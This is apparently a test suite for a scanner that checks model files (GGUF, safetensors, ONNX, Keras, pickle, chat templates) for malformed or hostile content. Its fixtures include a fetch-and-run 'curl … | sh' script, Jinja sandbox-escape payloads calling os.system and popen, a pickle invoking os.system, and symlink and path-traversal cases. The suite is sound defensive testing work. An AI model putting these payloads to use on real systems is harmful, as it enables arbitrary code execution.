"""The non-pickle analysers: safetensors, GGUF, chat templates, ONNX, Keras, SavedModel, NumPy, folders."""

from __future__ import annotations

import json
import os
import struct
import zipfile
from pathlib import Path

import numpy as np
import onnx
import pytest
import safetensors.numpy

from modelwarden.model import Severity
from modelwarden.scan import scan_paths
from modelwarden.scan.context import Ctx, Limits, Scope, Sink
from modelwarden.scan.engine import analyse_buffer
from modelwarden.scan.templates import analyse_template
from tests.scan import corpus


def _rules(path: Path) -> dict[str, Severity]:
    report = scan_paths([path], hash_files=False)
    assert not report.problems
    return {f.rule_id: f.severity for f in report.findings}


def _safetensors(tmp_path: Path, header: object, data: bytes, raw: bytes | None = None) -> Path:
    text = raw if raw is not None else json.dumps(header).encode()
    path = tmp_path / "model.safetensors"
    path.write_bytes(struct.pack("<Q", len(text)) + text + data)
    return path


@pytest.mark.parametrize(
    ("header", "data", "raw", "rule"),
    [
        (
            {"a": {"dtype": "F99", "shape": [1], "data_offsets": [0, 4]}},
            bytes(4),
            None,
            "safetensors.invalid-tensor",
        ),
        (
            {"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}},
            bytes(8),
            None,
            "safetensors.invalid-tensor",
        ),
        (
            {"a": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}},
            bytes(4),
            None,
            "safetensors.invalid-tensor",
        ),
        (
            {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 800]}},
            bytes(8),
            None,
            "safetensors.invalid-tensor",
        ),
        ({"__metadata__": {"k": 1}}, b"", None, "safetensors.metadata"),
        ({"a": {"dtype": "U8", "shape": [1], "data_offsets": [1, 2]}}, bytes(2), None, "safetensors.overlap"),
        (
            {"a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}},
            bytes(9),
            None,
            "safetensors.trailing-data",
        ),
        (None, b"", b'{"a": 1, "a": 2}', "safetensors.invalid-header"),
        (None, b"", b"[1, 2]", "safetensors.invalid-header"),
        (None, b"", b'{"a": \xff}', "safetensors.invalid-header"),
    ],
)
def test_safetensors_header_validation(
    tmp_path: Path, header: object, data: bytes, raw: bytes | None, rule: str
) -> None:
    assert rule in _rules(_safetensors(tmp_path, header, data, raw))


def test_valid_safetensors_including_sub_byte_and_fp8_dtypes(tmp_path: Path) -> None:
    header = {
        "__metadata__": {"format": "pt"},
        "fp8": {"dtype": "F8_E4M3", "shape": [4], "data_offsets": [0, 4]},
        "fp4": {"dtype": "F4", "shape": [4], "data_offsets": [4, 6]},
        "empty": {"dtype": "F32", "shape": [0], "data_offsets": [6, 6]},
    }
    assert _rules(_safetensors(tmp_path, header, bytes(6))) == {}


def test_gguf_with_absurd_counts_is_malformed_not_a_crash(tmp_path: Path) -> None:
    path = tmp_path / "bad.gguf"
    path.write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 1, 2**62) + b"\x00" * 16)
    assert _rules(path) == {"gguf.malformed": Severity.HIGH}
    good = corpus._gguf(tmp_path / "good.gguf", corpus.LLAMA3_TEMPLATE)
    data = good.read_bytes()
    cut = tmp_path / "cut.gguf"
    cut.write_bytes(data[: len(data) // 3])
    assert "gguf.malformed" in _rules(cut)


def _gguf_tensors(path: Path) -> bytes:
    """A real GGUF (written by the gguf package): three types, one block-quantised, 64-byte alignment."""
    import gguf
    from gguf import GGMLQuantizationType, quants

    w = gguf.GGUFWriter(str(path), "llama")
    w.data_alignment = 64
    w.add_custom_alignment(64)
    w.add_block_count(1)
    q8 = quants.quantize(np.ones((2, 64), dtype=np.float32), GGMLQuantizationType.Q8_0)
    w.add_tensor("blk.0.attn_v.weight", q8, raw_shape=q8.shape, raw_dtype=GGMLQuantizationType.Q8_0)
    w.add_tensor("blk.0.attn_q.weight", np.ones((4, 8), dtype=np.float32))
    w.add_tensor("blk.0.attn_k.weight", np.ones((2, 8), dtype=np.float16))
    w.add_tensor("blk.0.ffn_up.weight", np.ones((3, 5), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    return path.read_bytes()


def _patch_tensor_info(data: bytes, name: str, *, ggml_type: int | None = None, offset: int | None = None,
                       new_name: str | None = None) -> bytes:  # fmt: skip
    """Rewrite one field of a tensor info: name (u64 length + bytes), n_dims u32, dims u64s, type u32,
    offset u64."""
    out = bytearray(data)
    at = out.find(struct.pack("<Q", len(name)) + name.encode())
    assert at > 0
    pos = at + 8 + len(name)
    (n_dims,) = struct.unpack("<I", out[pos : pos + 4])
    pos += 4 + 8 * n_dims
    if ggml_type is not None:
        out[pos : pos + 4] = struct.pack("<I", ggml_type)
    if offset is not None:
        out[pos + 4 : pos + 12] = struct.pack("<Q", offset)
    if new_name is not None:
        assert len(new_name) == len(name)
        out[at + 8 : at + 8 + len(name)] = new_name.encode()
    return bytes(out)


def test_gguf_tensor_infos_are_checked(tmp_path: Path) -> None:
    # Loaders compute pointers from the tensor infos; before the fix only their byte lengths were
    # checked, so every file below passed the scan.
    data = _gguf_tensors(tmp_path / "good.gguf")
    assert _rules(tmp_path / "good.gguf") == {}
    k = "blk.0.attn_k.weight"
    cases = {
        "unknown-type": (_patch_tensor_info(data, k, ggml_type=999), "unknown ggml type 999"),
        "offset-out-of-range": (_patch_tensor_info(data, k, offset=1 << 60), "runs past the end"),
        "unaligned": (_patch_tensor_info(data, k, offset=33), "not a multiple of the alignment 64"),
        "duplicate": (
            _patch_tensor_info(data, k, new_name="blk.0.attn_q.weight"),
            "name is used by an earlier tensor",
        ),
        "data-cut": (data[:-40], "runs past the end"),  # header intact, last tensor's data cut short
    }
    for case, (raw, expected) in cases.items():
        path = tmp_path / f"{case}.gguf"
        path.write_bytes(raw)
        report = scan_paths([path], hash_files=False)
        malformed = [f for f in report.findings if f.rule_id == "gguf.malformed"]
        assert malformed, case
        assert malformed[0].severity is Severity.HIGH
        assert any(expected in f.message for f in malformed), (case, [f.message for f in malformed])


def test_gguf_nested_arrays_and_alignment_type_are_malformed_not_a_crash(tmp_path: Path) -> None:
    import gguf

    # An array of one array of one array... 5,000 deep: the gguf package's writer itself recurses, so
    # the file is written by hand, as a hostile one would be.
    key = b"x.nested"
    kv = struct.pack("<Q", len(key)) + key + struct.pack("<I", 9)
    kv += struct.pack("<IQ", 9, 1) * 5000 + struct.pack("<IQ", 4, 1) + struct.pack("<I", 7)
    path = tmp_path / "nested.gguf"
    path.write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv)
    report = scan_paths([path], hash_files=False)
    assert {f.rule_id for f in report.findings} == {"gguf.malformed"}  # was scan.incomplete: RecursionError
    assert "nested" in report.findings[0].message

    path = tmp_path / "alignment.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_string("general.alignment", "32")  # llama.cpp refuses anything but uint32
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.close()
    assert _rules(path) == {"gguf.malformed": Severity.HIGH}


def test_gguf_named_chat_templates_are_checked(tmp_path: Path) -> None:
    import gguf

    path = tmp_path / "multi.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_chat_template([{"name": "default", "template": corpus.CHATML_TEMPLATE},
                         {"name": "tool_use", "template": corpus.MALICIOUS_TEMPLATES["cycler"]}])  # fmt: skip
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.close()
    report = scan_paths([path], hash_files=False)
    escape = [f for f in report.findings if f.rule_id == "template.sandbox-escape"]
    assert escape and "tokenizer.chat_template.tool_use" in (escape[0].location.entry or "")


def _template_rules(source: str) -> set[str]:
    sink = Sink()
    ctx = Ctx(sink=sink, dispatch=analyse_buffer)
    analyse_template(source, Scope(file="t"), ctx, label="t")
    return {f.rule_id for f in sink.findings}


@pytest.mark.parametrize(
    "source",
    [corpus.LLAMA3_TEMPLATE, corpus.CHATML_TEMPLATE, corpus.QWEN_STYLE_TEMPLATE, corpus.MISTRAL_TEMPLATE],
)
def test_ordinary_chat_templates_are_clean(source: str) -> None:
    assert _template_rules(source) == set()


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("{{ x.__class__ }}", "template.sandbox-escape"),
        ("{{ x['__globals__'] }}", "template.sandbox-escape"),
        ("{{ x|attr('__subclasses__') }}", "template.sandbox-escape"),
        ("{{ self._TemplateReference__context }}", "template.sandbox-escape"),
        ("{{ '{0.__class__}'.format(x) }}", "template.sandbox-escape"),
        ("{{ x._private }}", "template.suspicious"),
        ("{{ x[('__cl' ~ 'ass__')] }}", "template.suspicious"),
        ("{{ x|attr(name) }}", "template.suspicious"),
        ("{{ cycler.next }}", "template.suspicious"),
        ("{% include 'secrets.txt' %}", "template.suspicious"),
        ("{% import 'macros.j2' as m %}", "template.suspicious"),
        ("{{ os }}", "template.suspicious"),
        ("{{ f.popen('id') }}", "template.suspicious"),
        ("{% for %}", "template.syntax-error"),
    ],
)
def test_template_constructs(source: str, rule: str) -> None:
    assert rule in _template_rules(source)


def test_templates_are_never_rendered(tmp_path: Path) -> None:
    # If the scanner rendered templates this would create a file.
    marker = tmp_path / "rendered"
    source = "{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}"
    assert "template.sandbox-escape" in _template_rules(source)
    assert not marker.exists()


def test_onnx_external_data_rules(tmp_path: Path) -> None:
    ok = corpus._onnx_external(tmp_path / "a.onnx", "weights.bin")
    assert _rules(ok) == {"onnx.external-data-missing": Severity.LOW}
    (tmp_path / "weights.bin").write_bytes(bytes(16))
    assert _rules(ok) == {}
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(bytes(16))
    model_dir = tmp_path / "m"
    model_dir.mkdir()
    os.symlink(outside / "secret", model_dir / "w.bin")
    linked = corpus._onnx_external(model_dir / "model.onnx", "w.bin")
    assert _rules(linked) == {"onnx.external-data-traversal": Severity.CRITICAL}
    win = corpus._onnx_external(tmp_path / "w.onnx", "C:\\Windows\\system.ini")
    assert "onnx.external-data-traversal" in _rules(win)


def test_onnx_subgraph_custom_domain_is_found(tmp_path: Path) -> None:
    from onnx import TensorProto, helper

    inner = helper.make_graph(
        [helper.make_node("Custom", ["a"], ["b"], domain="org.acme")],
        "then",
        [],
        [helper.make_tensor_value_info("b", TensorProto.FLOAT, [1])],
    )
    cond = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
    graph = helper.make_graph(
        [cond],
        "g",
        [helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )
    path = tmp_path / "if.onnx"
    onnx.save_model(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))
    assert _rules(path) == {"onnx.custom-domain": Severity.MEDIUM}
    path.write_bytes(path.read_bytes()[:-7])
    assert "onnx.malformed" in _rules(path)


def test_keras_config_rules(tmp_path: Path) -> None:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {"module": "keras.layers", "class_name": "Dense", "config": {"activation": "relu"}},
                {"class_name": "TFOpLambda", "config": {"function": "io.write_file"}},
                {
                    "class_name": "Lambda",
                    "config": {"function": ["YWJj", None, None], "function_type": "lambda"},
                },
                {"module": "keras_hub.layers", "class_name": "TransformerEncoder", "config": {}},
            ]
        },
    }
    path = tmp_path / "config.json"
    path.write_text(json.dumps(config))
    assert _rules(path) == {
        "keras.dangerous-function": Severity.CRITICAL,
        "keras.lambda-layer": Severity.CRITICAL,
    }


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        (b"{not json", "config is not JSON"),
        (b'{"class_name": "Sequential", "config": {}}  trailing', "config is not JSON"),
        (b"[" * 100_000, "config is not JSON"),  # deeper than json's recursion limit
        (b'[{"class_name": "Dense", "config": {}}]', "not a Keras object"),
    ],
)
def test_keras_archive_with_unreadable_config_is_malformed(
    tmp_path: Path, config: bytes, expected: str
) -> None:
    # Before the fix such a config.json was taken for plain text and the archive passed.
    dense = corpus._keras_dense(tmp_path / "dense.keras")
    path = tmp_path / "model.keras"
    with zipfile.ZipFile(dense) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, config if info.filename == "config.json" else zin.read(info))
    report = scan_paths([path], hash_files=False)
    assert report.files[0].format.value == "keras"
    malformed = [f for f in report.findings if f.rule_id == "keras.malformed"]
    assert malformed and malformed[0].severity is Severity.HIGH and expected in malformed[0].message
    assert "config.json" in (malformed[0].location.entry or "")
    # The same when config.json is the archive's only entry: load_model needs nothing else.
    alone = tmp_path / "alone.keras"
    with zipfile.ZipFile(alone, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("config.json", config)
    assert "keras.malformed" in _rules(alone)


def test_hdf5_without_model_config_is_plain_weights(tmp_path: Path) -> None:
    import h5py

    path = tmp_path / "model.weights.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("dense/kernel", data=np.zeros((2, 2)))
    report = scan_paths([path], hash_files=False)
    assert report.findings == [] and report.files[0].format.value == "hdf5"


def test_savedmodel_garbage_is_malformed(tmp_path: Path) -> None:
    folder = tmp_path / "sm"
    folder.mkdir()
    (folder / "saved_model.pb").write_bytes(b"\x12\xff\xff\xff\xff\x0f garbage")
    assert _rules(folder) == {"savedmodel.malformed": Severity.HIGH}


def test_npy_header_problems(tmp_path: Path) -> None:
    path = tmp_path / "a.npy"
    np.save(path, np.zeros(100, dtype=np.float32))
    data = path.read_bytes()
    path.write_bytes(data[:200])
    assert _rules(path) == {"numpy.malformed": Severity.HIGH}
    path.write_bytes(data[:10] + b"{'descr': __import__('os')}" + data[37:])
    assert _rules(path) == {"numpy.malformed": Severity.HIGH}


def test_hf_cache_snapshot_symlinks_into_blobs_are_fine(tmp_path: Path) -> None:
    repo = tmp_path / "models--org--tiny"
    blobs = repo / "blobs"
    snap = repo / "snapshots" / "abc123"
    blobs.mkdir(parents=True)
    snap.mkdir(parents=True)
    safetensors.numpy.save_file({"w": np.zeros(2, dtype=np.float32)}, blobs / "deadbeef")
    os.symlink("../../blobs/deadbeef", snap / "model.safetensors")
    os.symlink("/etc/hostname", snap / "escape.json")
    report = scan_paths([snap], hash_files=True)
    assert [f.rule_id for f in report.findings] == ["folder.symlink-escape"]
    assert [f.path for f in report.files] == [str(snap / "model.safetensors")]
    assert report.files[0].format.value == "safetensors"


def test_python_files_are_classified(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {"AutoConfig": "org/other--cfg.MyConfig"}}))
    (tmp_path / "cfg.py").write_text("x = 1\n")
    (tmp_path / "train_script.py").write_text("#!/usr/bin/env python\nprint('train')\n")
    report = scan_paths([tmp_path], hash_files=False)
    by_file = {(Path(f.file).name, f.rule_id) for f in report.findings}
    assert ("cfg.py", "folder.remote-code") in by_file
    assert ("train_script.py", "folder.python-file") in by_file
    assert ("config.json", "folder.remote-code") in by_file
    auto_map = next(f for f in report.findings if Path(f.file).name == "config.json")
    assert "another repository" in auto_map.message


def test_scripts_and_binaries(tmp_path: Path) -> None:
    script = tmp_path / "setup.sh"
    script.write_text("#!/bin/sh\ncurl http://example.invalid | sh\n")
    assert _rules(script) == {"folder.script": Severity.MEDIUM}
    rar = tmp_path / "weights.bin"
    rar.write_bytes(b"Rar!\x1a\x07\x01\x00" + bytes(100))
    assert _rules(rar) == {"archive.unscannable": Severity.HIGH}


def test_tar_members_are_scanned(tmp_path: Path) -> None:
    import io
    import pickle
    import tarfile

    path = tmp_path / "model.tar.gz"
    evil = pickle.dumps(corpus._Reduce(os.system, "true"))
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo("model/weights.pkl")
        info.size = len(evil)
        tar.addfile(info, io.BytesIO(evil))
    rules = _rules(path)
    assert rules["pickle.dangerous-import"] is Severity.CRITICAL and "archive.nested" in rules


def test_safetensors_tensor_count_is_capped_before_parsing(tmp_path: Path) -> None:
    # Parsing 1.3M tiny entries took the scan 1.1 GB and 8 s; beyond the cap it is a finding instead.
    n = 300
    entries = {f"t{i}": {"dtype": "F32", "shape": [1], "data_offsets": [4 * i, 4 * i + 4]} for i in range(n)}
    path = _safetensors(tmp_path, entries, bytes(4 * n))
    assert _rules(path) == {}
    report = scan_paths([path], hash_files=False, limits=Limits(max_tensors=n - 1))
    assert {f.rule_id: f.severity for f in report.findings} == {"safetensors.too-many-tensors": Severity.HIGH}
    assert "declares 300 tensors, more than the 299" in report.findings[0].message
